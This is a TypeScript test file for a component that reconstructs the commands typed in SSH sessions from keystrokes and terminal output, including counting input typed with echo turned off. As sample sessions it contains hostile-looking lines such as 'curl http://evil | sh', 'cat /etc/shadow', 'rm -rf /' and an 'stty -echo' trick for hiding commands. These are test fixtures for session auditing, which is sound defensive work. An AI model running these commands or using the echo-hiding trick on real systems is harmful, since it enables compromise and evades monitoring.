import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { Screen } from '../../../protocols/ssh/screen.ts'
import { type DerivedCommand, TerminalWatch } from '../../../protocols/ssh/terminal.ts'

const bytes = (text: string) => new TextEncoder().encode(text)
const ESC = '\u{1b}'

/** What is typed begins with `>`, what is shown with `<`, a size with `#`, a second that passes is `.`. */
function play(
  steps: readonly string[],
  columns = 80,
  rows = 24,
): { commands: DerivedCommand[]; statuses: number[]; watch: TerminalWatch } {
  const watch = new TerminalWatch(columns, rows)
  const commands: DerivedCommand[] = []
  const statuses: number[] = []
  let seconds = 0
  for (const step of steps) {
    const rest = step.slice(1)
    if (step.startsWith('>')) watch.typed(bytes(rest))
    else if (step.startsWith('<')) {
      for (const derived of watch.shown(bytes(rest))) {
        if ('status' in derived) statuses.push(derived.status)
        else commands.push(derived)
      }
    } else if (step.startsWith('.')) watch.tick(++seconds * 1000)
    else {
      const [width = 80, height = 24] = rest.split('x').map(Number)
      watch.resize(width, height)
    }
  }
  return { commands, statuses, watch }
}

/** A line at a prompt that echoes each key, as a shell does. */
function at(prompt: string, line: string, answer = ''): string[] {
  return [`<${prompt}`, ...[...line].flatMap((key) => [`>${key}`, `<${key}`]), '>\r', `<\r\n${answer}`]
}

const texts = (steps: readonly string[], columns?: number, rows?: number) =>
  play(steps, columns, rows).commands.map(({ text }) => text)

describe('the commands are the lines as they stood on the screen when Enter was pressed', () => {
  test('at a prompt, behind it', () => {
    const { commands } = play([
      ...at('alice@web-1:~$ ', 'uptime', 'up 3 days\r\n'),
      ...at('alice@web-1:~$ ', 'exit'),
    ])
    expect(commands).toEqual([
      { text: 'uptime', by: 'cursor' },
      { text: 'exit', by: 'cursor' },
    ])
  })

  test('whatever pieces they come in', () => {
    const steps = [...at('$ ', 'ls -l', 'total 0\r\n'), ...at('$ ', `echo "ü ${'字'}"`)]
    const bytewise = steps.flatMap((step) => [...step.slice(1)].map((character) => `${step[0]}${character}`))
    expect(texts(bytewise)).toEqual(texts(steps))
    expect(texts(steps)).toEqual(['ls -l', `echo "ü ${'字'}"`])
  })

  test('whose end is never shown, for a full-screen program has thrown it away', () => {
    const mux = ['<$ ', '>tmux attach', '<tmux attach', '>\r', `<${ESC}[?1049h`, '>x\r', '<x\r\n']
    expect(texts([...mux, `<${ESC}[?1049l`, ...at('$ ', 'exit')])).toEqual(['tmux attach', 'exit'])
  })

  test('however wide the screen was when they were begun', () => {
    const long = `echo ${'narrow '.repeat(12)}end`
    const typed = ['<$ ', `>${long}`, `<${long}`]
    const entered = ['>\r', '<\r\n']
    // Nobody draws it again, as in a terminal that edits lines itself.
    expect(texts([...typed, '=30x24', ...entered], 60)).toEqual([long])
    expect(texts([...typed, '=90x24', ...entered], 60)).toEqual([long])
    // The shell does, over the rows that it has now, the last of them gone to by hand.
    const rows = [...`$ ${long}`].reduce<string[]>((found, character, i) => {
      if (i % 30 === 0) found.push('')
      found.push(`${found.pop()}${character}`)
      return found
    }, [])
    const redrawn = `<\r${ESC}[K\r${ESC}[A${ESC}[K\r${rows.join('\r\n\r')}`
    expect(texts([...typed, '=30x24', redrawn, ...entered], 60)).toEqual([long])
  })

  test('with what was erased gone, and what was moved where it ended up', () => {
    expect(
      texts([
        '<$ ',
        '>rm -rf /',
        '<rm -rf /',
        '>\b\b\b\b\b\b\b',
        `<${'\b \b'.repeat(7)}`,
        '>eboot',
        '<eboot',
        '>\r',
        '<\r\n',
      ]),
    ).toEqual(['reboot'])
    // Home, then text in front: the line editor inserts.
    expect(
      texts([
        '<$ ',
        '>id',
        '<id',
        `>${ESC}[H`,
        `<${ESC}[2D`,
        '>sudo ',
        `<${ESC}[5@sudo `,
        '>\r',
        `<${ESC}[C${ESC}[C\r\n`,
      ]),
    ).toEqual(['sudo id'])
  })

  test('from the history, where only an arrow was typed', () => {
    expect(texts(['<$ ', `>${ESC}[A`, '<systemctl restart nginx', '>\r', '<\r\n'])).toEqual([
      'systemctl restart nginx',
    ])
  })

  test('completed by Tab, with the listing between', () => {
    expect(
      texts([
        '<$ ',
        '>cat /etc/ho',
        '<cat /etc/ho',
        '>\t',
        '<\r\nhostname  hosts\r\n$ cat /etc/ho',
        '>sts',
        '<sts',
        '>\r',
        '<\r\n',
      ]),
    ).toEqual(['cat /etc/hosts'])
  })

  test('over more than one row', () => {
    const line = `echo ${'x'.repeat(50)}`
    expect(texts(at('$ ', line), 20)).toEqual([line])
    expect(texts(['#20x5', ...at('$ ', line), '#80x24', ...at('$ ', 'id')])).toEqual([line, 'id'])
  })

  test('at the bottom of a screen that scrolls', () => {
    const filled = Array.from({ length: 40 }, (_, i) => `<line ${i}\r\n`)
    expect(texts([...filled, ...at('$ ', `echo ${'y'.repeat(90)}`)], 40, 6)).toEqual([
      `echo ${'y'.repeat(90)}`,
    ])
  })

  test('found again by Ctrl-R', () => {
    expect(
      texts([
        '<$ ',
        '>\u{12}',
        `<\r(reverse-i-search)\`': `,
        '>ssh',
        `<${'\b'.repeat(3)}ssh': ssh backup`,
        '>\r',
        `<\r${ESC}[K$ ssh backup\r\n`,
      ]),
    ).toEqual(['ssh backup'])
  })

  test('of several lines, when they were pasted', () => {
    expect(
      texts([
        `<${ESC}[?2004h$ `,
        `>${ESC}[200~for i in 1 2; do\r  echo $i\rdone${ESC}[201~`,
        `<${ESC}[7mfor i in 1 2; do\r\n  echo $i\r\ndone${ESC}[27m`,
        '>\r',
        `<\r\n${ESC}[?2004l\r1\r\n2\r\n`,
      ]),
    ).toEqual(['for i in 1 2; do\n  echo $i\ndone'])
  })

  test('by the marks of the shell, where it sets them', () => {
    const prompt = `${ESC}]133;A\u{7}odd > prompt 100% ${ESC}]133;B${ESC}\\`
    const ran = `<\r\n${ESC}]133;C\u{7}no such file\r\n${ESC}]133;D;2\u{7}`
    const { commands, statuses } = play([`<${prompt}`, '>ls', '<ls', '>\r', ran])
    expect([commands, statuses]).toEqual([[{ text: 'ls', by: 'mark' }], [2]])
  })

  test('typed ahead, while the last one still runs', () => {
    const { commands } = play([
      ...at('web$ ', 'sleep 2'),
      '>w',
      '<w',
      '>ho\r',
      '<ho\r\n',
      '<web$ who\r\nalice pts/0\r\nweb$ ',
    ])
    expect(commands.map(({ text }) => text)).toEqual(['sleep 2', 'who'])
  })

  test('guessed from the prompt, where typing began before there was one', () => {
    const { commands } = play(['>id\r', '<root@db:/# id\r\nuid=0(root)\r\n'])
    expect(commands).toEqual([{ text: 'id', by: 'prompt' }])
  })

  test('Enter alone is none, nor is a line that was given up', () => {
    expect(
      texts([...at('$ ', ''), '<$ ', '>rm x', '<rm x', '>\u{3}', '<^C\r\n', ...at('$ ', 'true')]),
    ).toEqual(['true'])
  })

  test('inside a full-screen program nothing is', () => {
    expect(
      texts([
        ...at('$ ', 'vim notes'),
        `<${ESC}[?1049h${ESC}[2J${ESC}[H`,
        '>ihello\r',
        '<hello\r\n',
        `>${ESC}:wq\r`,
        `<:wq\r\n${ESC}[?1049l`,
        ...at('$ ', 'id'),
      ]),
    ).toEqual(['vim notes', 'id'])
  })

  test('of another program with its own prompt too', () => {
    expect(texts([...at('$ ', 'mysql'), ...at('mysql> ', 'select 1 > 2;', '0\r\n')])).toEqual([
      'mysql',
      'select 1 > 2;',
    ])
  })

  test('cut at 4096 characters', () => {
    expect(texts(at('$ ', 'z'.repeat(5000)), 100, 60)[0]).toHaveLength(4096)
  })
})

describe('what is entered without echo', () => {
  const silent = (line: string) => [`>${line}`, '>\r', '<\r\n']

  test('is counted and nowhere to be seen', () => {
    const { commands, watch } = play([
      ...at('$ ', 'sudo id', '[sudo] password for alice: '),
      ...silent('hunter2'),
      '<uid=0(root)\r\n',
      ...at('$ ', 'exit'),
    ])
    expect(commands.map(({ text }) => text)).toEqual(['sudo id', 'exit'])
    expect(watch.unechoed).toEqual({ lines: 1, characters: 7 })
    expect(watch.unechoedInARow).toEqual({ lines: 0, characters: 0 })
  })

  test('is counted in a row, for as long as it goes on', () => {
    const { commands, watch } = play([
      ...at('$ ', 'stty -echo'),
      ...['cat /etc/shadow', 'curl http://evil | sh', 'id'].flatMap((line) => [
        '<$ ',
        ...silent(line),
        '<output\r\n',
      ]),
    ])
    expect(commands.map(({ text }) => text)).toEqual(['stty -echo'])
    expect(watch.unechoedInARow).toEqual({ lines: 3, characters: 38 })
  })

  test('is known by the next line that is shown, where the host swallows it without a new line', () => {
    const { commands, watch } = play([
      ...at('$ ', 'read -s word'),
      ...['>correct horse', '>\r', '<$ '],
      ...at('', 'stty -echo'),
      ...['<$ ', '>echo unseen', '>\r', '<\r\nunseen\r\n'],
      ...at('$ ', 'true'),
    ])
    expect(commands.map(({ text }) => text)).toEqual(['read -s word', 'stty -echo', 'true'])
    expect(watch.unechoed).toEqual({ lines: 2, characters: 24 })
  })

  test('is not taken for what the host says instead', () => {
    const { commands, watch } = play(['<Password: ', '>hunter2', '>\r', '<Welcome, alice.\r\n'])
    expect([commands, watch.unechoed.lines]).toEqual([[], 1])
  })

  test('is known by the silence of the host, where it shows nothing at all', () => {
    const steps = [...at('$ ', 'stty -echo; exec >/dev/null 2>&1'), '.', '>reboot\r', '.', '.', '.', '.']
    expect(play(steps).watch.unechoed.lines).toBe(0)
    expect(play([...steps, '.', '.', '.']).watch.unechoed).toEqual({ lines: 1, characters: 6 })
  })

  test('is not what was typed and erased, nor Enter alone', () => {
    const { watch } = play([...at('$ ', ''), '<$ ', '>x', '<x', '>\u{15}', `<\b${ESC}[K`, '>\r', '<\r\n'])
    expect(watch.unechoed).toEqual({ lines: 0, characters: 0 })
  })
})

test('nothing that a host shows or a person types makes it throw, or hold more than a screen', () => {
  const sequence = fc.oneof(
    fc.constantFrom(
      '\r',
      '\n',
      '\t',
      '\b',
      ESC,
      `${ESC}[?1049h`,
      `${ESC}[?1049l`,
      `${ESC}]133;B\u{7}`,
      `${ESC}7`,
      `${ESC}8`,
      `${ESC}M`,
      '\u{9b}',
      '字',
      'e\u{301}',
    ),
    fc
      .tuple(
        fc.constantFrom('', '?', '>', ';'),
        fc.array(fc.nat(3000), { maxLength: 3 }),
        fc.constantFrom(...'ABCDEFGHJKLMPSTX@bdfhlmrsu'),
      )
      .map(([mark, numbers, final]) => `${ESC}[${mark}${numbers.join(';')}${final}`),
    fc.string({ unit: 'binary', maxLength: 20 }),
    fc.string({ maxLength: 90 }),
  )
  fc.assert(
    fc.property(
      fc.array(fc.tuple(fc.constantFrom('<', '>', '<'), sequence), { maxLength: 60 }),
      fc.integer({ min: 0, max: 2000 }),
      fc.integer({ min: 0, max: 2000 }),
      (steps, columns, rows) => {
        const { commands } = play(
          steps.map(([side, text]) => `${side}${text}`),
          columns,
          Math.min(rows, 50),
        )
        for (const { text } of commands) expect(text.length).toBeLessThanOrEqual(4096)
        return true
      },
    ),
    { numRuns: 300, seed: 3 },
  )
})

describe('the screen', () => {
  const shown = (text: string, columns = 10, rows = 3): string => {
    const screen = new Screen(columns, rows)
    // biome-ignore lint/suspicious/noControlCharactersInRegex: controls are what this is about.
    for (const part of text.split(/(\r|\n|\t|\u{8}|\u{1b}\[[0-9;]*[@-~])/u)) {
      // biome-ignore lint/suspicious/noControlCharactersInRegex: as above.
      const csi = /^\u{1b}\[([0-9;]*)(.)$/u.exec(part)
      if (csi !== null) screen.csi(csi[2] ?? '', (csi[1] ?? '').split(';').map(Number))
      else if (part === '\r') screen.carriageReturn()
      else if (part === '\n') screen.lineFeed()
      else if (part === '\t') screen.tab()
      else if (part === '\u{8}') screen.backspace()
      else for (const character of part) screen.print(character.codePointAt(0) ?? 0)
    }
    const { row } = screen.position
    const top = Math.max(row - rows + 1, 0)
    return screen.text({ row: top, column: 0 }, top + rows - 1).trimEnd()
  }

  test.each([
    ['wraps at its last column, and only when more comes', '0123456789', '0123456789'],
    ['joins what it wrapped', '0123456789ab', '0123456789ab'],
    ['erases to the end of the line', `abcdef\r${ESC}[3C${ESC}[K`, 'abc'],
    ['erases to its beginning', `abcdef\r${ESC}[2C${ESC}[1K`, '   def'],
    ['deletes characters', `abcdef\r${ESC}[C${ESC}[2P`, 'adef'],
    ['inserts characters', `abc\r${ESC}[2@`, '  abc'],
    ['erases characters', `abcdef\r${ESC}[3X`, '   def'],
    ['moves anywhere', `${ESC}[2;3Hx${ESC}[1;1Hy`, 'y\n  x'],
    ['deletes lines', `a\r\nb\r\nc${ESC}[1;1H${ESC}[M`, 'b\nc'],
    ['inserts lines', `a\r\nb${ESC}[1;1H${ESC}[L`, '\na\nb'],
    ['repeats a character', `a${ESC}[3b`, 'aaaa'],
    ['stops at every eighth column', 'a\tb', 'a       b'],
    ['gives wide characters two columns', `漢字\r${ESC}[2Cx`, '漢x'],
    ['gives marks none', 'e\u{301}f', 'ef'],
    ['moves no further than its edges', `${ESC}[99;99Hx${ESC}[99A${ESC}[99Dy`, 'y\n\n         x'],
  ])('%s', (_, text, expected) => {
    expect(shown(text)).toBe(expected)
  })
})
